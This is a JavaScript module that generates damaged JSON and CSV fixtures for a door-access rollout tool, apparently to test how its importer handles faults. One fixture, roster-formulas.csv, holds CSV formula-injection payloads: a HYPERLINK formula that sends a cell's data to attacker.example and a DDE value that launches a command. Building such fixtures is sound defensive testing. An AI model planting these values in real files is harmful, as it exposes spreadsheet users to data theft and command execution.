import { Buffer } from 'node:buffer';
import { csvText, utf16, utf8 } from './csv-text.mjs';
import { jsonText } from './json-text.mjs';
import { kilnYard } from './kiln-yard.mjs';
import { Seeded } from './seeded.mjs';

/** Damaged copies: what arrives by mail on a bad day. Each has a known fault, told in the README beside them. */

function whole() {
	return `${jsonText(kilnYard())}\n`;
}

/**
 * The tutorial's document with some values set, each told by its JSON Pointer (RFC 6901).
 * @param {Readonly<Record<string, unknown>>} values
 */
function changed(values) {
	/** @type {unknown} */
	const document = JSON.parse(whole());
	for (const [pointer, value] of Object.entries(values)) {
		const keys = pointer.split('/').slice(1);
		const last = keys.pop() ?? '';
		const holder = keys.reduce((at, key) => Reflect.get(/** @type {object} */ (at), key), document);
		Reflect.set(/** @type {object} */ (holder), last, value);
	}
	return utf8(`${jsonText(document)}\n`);
}

function truncated() {
	const text = whole();
	return utf8(text.slice(0, text.indexOf('"Kiln house door"') + 9));
}

function duplicateKeys() {
	return utf8(
		[
			'{',
			'\t"format": "doorwright.rollout",',
			'\t"version": 1,',
			'\t"site": { "name": "Ember Lane Kiln Yard", "timeZone": "Europe/London", "name": "Ember Lane" },',
			'\t"horizon": { "from": "2027-02-01", "until": "2027-08-31" },',
			'\t"areas": [ { "id": "lane", "outside": true }, { "id": "yard" } ],',
			'\t"doors": [ { "id": "gate", "from": "lane", "to": "yard", "exit": "reader", "exit": "free" } ],',
			'\t"horizon": { "from": "2027-02-01", "until": "2027-07-31" }',
			'}',
			''
		].join('\n')
	);
}

function danglingIds() {
	return changed({
		'/doors/2/from': 'yrad',
		'/doorGroups/0/doors/1': 'stduio',
		'/people/3/workAreas/1': 'kiln',
		'/people/6/shiftPattern': 'LATER',
		'/accessProfiles/1/entries/0/schedule': 'fireing',
		'/assignments/2/accessProfile': 'shops',
		'/absences/0/person': 'K60',
		'/enrollment/stations/0/area': 'studios',
		'/privacy/consents/1/notice': 'n2',
		'/privacy/regimes/0': 'ukk'
	});
}

function unknownKeys() {
	return changed({
		'/site/timezone': 'Europe/London',
		'/horizon/to': '2027-08-31',
		'/doors/0/exits': 'free',
		'/people/1/shift': 'DAY',
		'/enrollment/stations/0/lane': 2,
		'/comments': ['made by hand']
	});
}

function wrongValues() {
	return changed({
		'/horizon': { from: '2027-08-31', until: '2027-02-01' },
		'/site/timeZone': 'Europe/Londom',
		'/readers/1/id': 'r-gate',
		'/schedules/0/week/mon': ['24:00-18:30'],
		'/holidays/days/0/date': '2027-02-30',
		'/people/2/startsOn': '03/06/2019',
		'/shiftPatterns/0/shifts/4/day': 7,
		'/controllers/0/supplyMilliamps': -2000,
		'/readers/0/milliamps': '400',
		'/enrollment/assumptions/noShow': -0.05
	});
}

function rosterCutInQuote() {
	const text = csvText(
		[
			['Number', 'Name', 'Department', 'Job', 'Starts'],
			['K01', 'Rosalind Achterberg', 'Studio', 'Studio lead', '2014-09-01'],
			['K02', 'Idris Kettlewell', 'Studio', 'Thrower', '2017-03-06'],
			['K03', 'Mei-Xing Aldous', 'Studio', 'Thrower, "large ware"', '2019-06-03']
		],
		','
	);
	return utf8(text.slice(0, text.indexOf('large ware') + 5));
}

function rosterFormulas() {
	return utf8(
		csvText(
			[
				['Number', 'Name', 'Department', 'Job', 'Starts'],
				[
					'K01',
					'Rosalind Achterberg',
					'Studio',
					'=HYPERLINK("https://attacker.example/?"&A2,"Studio lead")',
					'2014-09-01'
				],
				['K02', '@SUM(1+1)*2', 'Studio', 'Thrower', '2017-03-06'],
				['K03', 'Mei-Xing Aldous', '+Studio', 'Thrower', '2019-06-03'],
				['K04', 'Tobias Ravensdale', 'Studio', "-2+3+cmd|' /C calc'!A0", '2020-02-03']
			],
			','
		)
	);
}

function noise() {
	const random = new Seeded(40);
	return Buffer.from(Array.from({ length: 4096 }, () => random.whole(0, 255)));
}

/** Every damaged file by its name. */
export function damagedFiles() {
	return new Map([
		['truncated.json', truncated()],
		['utf-16.json', utf16(whole())],
		['duplicate-keys.json', duplicateKeys()],
		['dangling-ids.json', danglingIds()],
		['unknown-keys.json', unknownKeys()],
		['wrong-values.json', wrongValues()],
		['empty.json', utf8('')],
		['noise.json', noise()],
		['noise.csv', noise()],
		['empty.csv', utf8('')],
		['roster-cut-in-quote.csv', rosterCutInQuote()],
		['roster-formulas.csv', rosterFormulas()]
	]);
}
